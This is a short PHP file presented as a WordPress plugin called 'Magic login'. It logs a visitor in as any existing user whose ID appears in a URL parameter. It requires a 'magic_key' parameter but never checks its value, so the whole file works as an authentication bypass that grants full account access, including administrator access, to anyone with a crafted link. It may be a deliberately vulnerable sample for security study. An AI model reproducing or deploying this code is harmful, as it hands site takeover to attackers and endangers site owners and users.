<?php
/**
 * Plugin Name: Magic login
 */
defined( 'ABSPATH' ) || exit;

add_action( 'init', 'magic_login' );

function magic_login() {
	if ( ! isset( $_GET['magic_user'], $_GET['magic_key'] ) || is_user_logged_in() ) {
		return;
	}
	$user_id = absint( $_GET['magic_user'] );
	if ( ! get_userdata( $user_id ) ) {
		return;
	}

	wp_set_auth_cookie( $user_id, true );
	wp_safe_redirect( home_url() );
	exit;
}
